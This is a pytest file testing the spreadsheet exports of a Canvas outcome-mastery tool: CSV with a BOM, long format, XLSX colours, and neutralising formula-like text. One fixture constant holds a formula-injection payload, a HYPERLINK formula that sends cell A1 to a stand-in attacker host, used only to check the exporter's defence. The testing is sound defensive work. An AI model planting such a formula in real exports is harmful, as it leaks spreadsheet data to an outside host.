"""Exports that survive a spreadsheet (issue 14): the CSV for scripts on stdout unchanged; `--csv FILE` and
`--excel` for people (UTF-8 BOM, the absolute cut on row 1, "Title (id)" headers, a mastered column, the
summary block, SIS ids quoted as text); `--long` for BI tools; `--xlsx FILE` read back with openpyxl (rating
colours, contrasting text, SIS ids as text cells, a Summary sheet); formula-like Canvas text neutralised.

The store (tests/builders.py events), worked out by hand: course 6 "Biology 6" enrols Ana (SIS 00123), Ben
(S2) and Dee (0044, no result). Outcome 104 "Reading 104" (Top 5 / Meets 3 / Below 0, mastery 3; Canvas's
default colours for a criterion whose mastery rating is the second: 0374B5, 0B874B, 555555): Ana 5 (Top,
mastered), Ben 1 (Below). Outcome 105: Ana 2 (Below). So 104 is mastered 1/3 · 1 below · 1 no evidence and
105 0/3 · 1 below · 2 no evidence; the grid lists Ben then Ana (Young, Zapata). Course 9 holds Canvas text
that starts like a formula: an outcome title "=HYPERLINK(…)", students "+Plus Sign" (SIS "-007") and
"@At Sign".
"""

from __future__ import annotations

import csv
import io
import json
import re

import pytest

from domain.colours import contrast
from tests import builders as b
from tests.conftest import mastery, write_jsonl

TIME = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d{3})?Z$")
EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
AS_OF = b.at(5)  # 2025-09-06T10:00:00Z, after every result


def world() -> list[dict]:
    events = [b.course("6", name="Biology 6"), b.outcome("104", title="Reading"), b.outcome("105", title="Writing")]
    for i, (uid, uuid, name, sis) in enumerate(
        [("11", "u1", "Ana Zapata", "00123"), ("12", "u2", "Ben Young", "S2"), ("14", "u4", "Dee Williams", "0044")]
    ):
        events += [b.user(uid, uuid, name, sis=sis), b.enrollment(str(500 + i), "6", uid)]
    events += [b.result("104", "u1", 5, 1, course="6"), b.result("104", "u2", 1, 1, course="6")]
    events += [b.result("105", "u1", 2, 1, course="6")]
    events += [
        b.outcome("901", title=EVIL),
        b.user("31", "h1", "+Plus Sign", sis="-007"),
        b.user("32", "h2", "@At Sign"),
    ]
    events += [b.result("901", "h1", 5, 1, course="9"), b.result("901", "h2", 0, 1, course="9")]
    return events


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> tuple[str, str]:
    folder = tmp_path_factory.mktemp("exports")
    where = ("--store", str(folder / "s.db"))
    mastery(*where, "ingest", str(write_jsonl(folder / "in.jsonl", world())), check=True)
    return where


def read(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "a spreadsheet export starts with the UTF-8 BOM"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


HEADER = ["student", "name", "sis_id"] + [
    f"{title} ({oid}) {col}"
    for oid, title in (("104", "Reading 104"), ("105", "Writing 105"))
    for col in ("score", "rating", "mastered")
]
GRID = [
    ["12", "Ben Young", "S2", "1.0", "Below", "no", "", "", "no evidence"],
    ["11", "Ana Zapata", "00123", "5.0", "Top", "yes", "2.0", "Below", "no"],
]
SUMMARY = [
    ["outcome", "title", "students", "mastered", "below", "no score", "no evidence"],
    ["104", "Reading 104", "3", "1", "1", "0", "1"],
    ["105", "Writing 105", "3", "0", "1", "0", "2"],
]


def test_csv_on_stdout_keeps_the_scripts_contract(store):
    out = mastery(*store, "rollups", "--course", "6", "--csv", check=True).stdout
    assert not out.startswith(b"\xef\xbb\xbf")
    assert list(csv.reader(io.StringIO(out.decode()))) == [
        ["student", "name", "sis_id", "score 104", "rating 104", "score 105", "rating 105"],
        ["12", "Ben Young", "S2", "1.0", "Below", "", ""],
        ["11", "Ana Zapata", "00123", "5.0", "Top", "2.0", "Below"],
    ]


def test_csv_to_a_file_is_for_spreadsheets_bom_cut_titles_mastered_and_the_summary(store, tmp_path):
    target = tmp_path / "biology.csv"
    ran = mastery(*store, "rollups", "--course", "6", "--csv", str(target), "--as-of", AS_OF, check=True)
    assert (
        ran.stdout == b"" and f"wrote {target} (UTF-8 with a BOM): 2 student(s) × 2 outcome(s)" in ran.stderr.decode()
    )
    rows = read(target.read_bytes())
    cut = rows[0][0]
    assert cut.startswith(f"mastery rollups · course 6 Biology 6 · as of {AS_OF} · known at ") and len(rows[0]) == 1
    known, made = re.search(r"known at (\S+) · outcome mode · made (\S+)$", cut).groups()
    assert TIME.match(known) and known == made  # "now" is written as the absolute moment it was made
    assert rows[1:] == [[], HEADER, *GRID, [], *SUMMARY]
    # SIS ids are quoted text (a spreadsheet's "quoted field as text" keeps 00123), scores bare numbers.
    assert '"11","Ana Zapata","00123",5.0,"Top","yes",2.0' in target.read_bytes().decode("utf-8-sig")


def test_excel_puts_the_same_spreadsheet_csv_on_stdout_and_now_is_an_absolute_time(store, tmp_path):
    rows = read(mastery(*store, "rollups", "--course", "6", "--excel", check=True).stdout)
    assert rows[2:] == [HEADER, *GRID, [], *SUMMARY]
    as_of = re.search(r" · as of (\S+) · ", rows[0][0]).group(1)
    assert TIME.match(as_of) and not re.search(r"\bnow\b", rows[0][0])


def test_not_mastered_in_the_spreadsheet_csv_lists_the_student_with_no_evidence(store, tmp_path):
    rows = read(mastery(*store, "rollups", "--course", "6", "--outcome", "104", "--not-mastered", "--excel").stdout)
    assert "students who have not mastered outcome 104" in rows[0][0]
    assert rows[2:6] == [
        HEADER[:6],
        ["14", "Dee Williams", "0044", "", "", "no evidence"],
        ["12", "Ben Young", "S2", "1.0", "Below", "no"],
        [],
    ]
    assert rows[6:] == SUMMARY[:2]


def test_long_gives_one_row_per_student_and_outcome_with_the_cut_on_each(store, tmp_path):
    out = mastery(*store, "rollups", "--course", "6", "--long", "--as-of", AS_OF, check=True).stdout
    assert not out.startswith(b"\xef\xbb\xbf")  # on stdout, for a pipe: no BOM unless --excel
    rows = list(csv.DictReader(io.StringIO(out.decode())))
    assert [(r["name"], r["outcome"], r["score"], r["rating"], r["mastered"], r["status"]) for r in rows] == [
        ("Ben Young", "104", "1.0", "Below", "false", "below"),
        ("Ben Young", "105", "", "", "", "no evidence"),
        ("Ana Zapata", "104", "5.0", "Top", "true", "mastered"),
        ("Ana Zapata", "105", "2.0", "Below", "false", "below"),
    ]
    assert {(r["course"], r["as_of"], r["mode"]) for r in rows} == {("6", AS_OF, "outcome")}
    assert [(r["student"], r["user_uuid"], r["sis_id"], r["title"]) for r in rows[2:3]] == [
        ("11", "u1", "00123", "Reading 104")
    ]
    assert all(TIME.match(r["known_at"]) for r in rows)
    target = tmp_path / "long.csv"
    mastery(*store, "rollups", "--course", "6", "--long", "--csv", str(target), "--as-of", AS_OF, check=True)
    assert target.read_bytes().startswith(b"\xef\xbb\xbf")  # to a file: the BOM, the same rows
    written = list(csv.DictReader(io.StringIO(target.read_bytes().decode("utf-8-sig"))))
    assert [r | {"known_at": ""} for r in written] == [r | {"known_at": ""} for r in rows]


def test_xlsx_has_rating_colours_contrasting_text_sis_ids_as_text_and_a_summary_sheet(store, tmp_path):
    from openpyxl import load_workbook

    target = tmp_path / "biology.xlsx"
    ran = mastery(*store, "rollups", "--course", "6", "--xlsx", str(target), "--as-of", AS_OF, check=True)
    assert f"wrote {target}: 2 student(s) × 2 outcome(s), as of {AS_OF}" in ran.stderr.decode()
    book = load_workbook(target)
    assert book.sheetnames == ["Mastery", "Summary"]
    grid = book["Mastery"]
    assert [c.value for c in grid[1]] == HEADER
    assert [c.value for c in grid[3]] == ["11", "Ana Zapata", "00123", 5, "Top", "yes", 2, "Below", "no"]
    sis = grid["C3"]
    assert (sis.value, sis.data_type, sis.number_format) == ("00123", "s", "@")
    fills = {c.coordinate: c.fill.fgColor.rgb for row in grid.iter_rows(min_row=2) for c in row if c.fill.fill_type}
    assert fills == {"D2": "FF555555", "E2": "FF555555", "D3": "FF0374B5", "E3": "FF0374B5"} | {
        "G3": "FF555555",
        "H3": "FF555555",
    }
    for coordinate, fill in fills.items():
        assert contrast(grid[coordinate].font.color.rgb[2:], fill[2:]) >= 4.5
    assert grid.freeze_panes == "D2"
    summary = [[v for v in row if v is not None] for row in book["Summary"].iter_rows(values_only=True)]
    assert summary[:6] == [
        ["course", "6"],
        ["course name", "Biology 6"],
        ["as of", AS_OF],
        ["known at", summary[3][1]],
        ["mode", "outcome"],
        ["made at", summary[3][1]],
    ]
    assert summary[7:10] == [SUMMARY[0], ["104", "Reading 104", 3, 1, 1, 0, 1], ["105", "Writing 105", 3, 0, 1, 0, 2]]


def test_text_that_starts_like_a_formula_is_neutralised_in_csv_and_a_string_cell_in_xlsx(store, tmp_path):
    rows = read(mastery(*store, "rollups", "--course", "9", "--excel", check=True).stdout)
    assert rows[2] == ["student", "name", "sis_id"] + [
        f"'{EVIL} 901 (901) {col}" for col in ("score", "rating", "mastered")
    ]
    # Sortable names "Sign, +Plus" before "Sign, @At" ("+" is 0x2B, "@" 0x40).
    assert [r[1:3] for r in rows[3:5]] == [["'+Plus Sign", "'-007"], ["'@At Sign", ""]]
    long = list(csv.DictReader(io.StringIO(mastery(*store, "rollups", "--course", "9", "--long").stdout.decode())))
    assert {r["title"] for r in long} == {f"'{EVIL} 901"} and [r["name"] for r in long] == ["'+Plus Sign", "'@At Sign"]

    from openpyxl import load_workbook

    target = tmp_path / "evil.xlsx"
    mastery(*store, "rollups", "--course", "9", "--xlsx", str(target), check=True)
    grid = load_workbook(target)["Mastery"]
    cells = [grid["D1"], grid["B2"], grid["C2"], grid["B3"]]
    assert [c.value for c in cells] == [f"{EVIL} 901 (901) score", "+Plus Sign", "-007", "@At Sign"]
    assert {c.data_type for c in cells} == {"s"}  # strings, never formulas: Excel shows them as typed


def test_one_output_at_a_time_and_a_missing_folder_is_an_io_error(store, tmp_path):
    both = mastery(*store, "rollups", "--course", "6", "--json", "--csv")
    assert both.returncode == 2 and "give one output: --json or --csv, not several" in both.stderr.decode()
    assert mastery(*store, "rollups", "--course", "6", "--xlsx", str(tmp_path / "x.xlsx"), "--long").returncode == 2
    assert mastery(*store, "rollups", "--course", "6", "--excel", "--csv", str(tmp_path / "x.csv")).returncode == 2
    missing = mastery(*store, "rollups", "--course", "6", "--xlsx", str(tmp_path / "nope" / "x.xlsx"))
    assert missing.returncode == 3 and "does not exist" in missing.stderr.decode()
    assert mastery(*store, "rollups", "--course", "6", "--aggregate", "mean", "--long").returncode == 2


def test_an_export_of_a_named_snapshot_carries_the_snapshots_two_times(store, tmp_path):
    made = json.loads(
        mastery(*store, "snapshot", "create", f"export {tmp_path.name}", "--as-of", AS_OF, "--json", check=True).stdout
    )
    target = tmp_path / "q1.csv"
    mastery(
        *store, "rollups", "--course", "6", "--snapshot", f"export {tmp_path.name}", "--csv", str(target), check=True
    )
    cut = read(target.read_bytes())[0][0]
    assert f" · as of {made['as_of']} · known at {made['known_at']} · " in cut
    long = mastery(*store, "rollups", "--course", "6", "--snapshot", f"export {tmp_path.name}", "--long", check=True)
    rows = list(csv.DictReader(io.StringIO(long.stdout.decode())))
    assert {(r["as_of"], r["known_at"]) for r in rows} == {(made["as_of"], made["known_at"])}
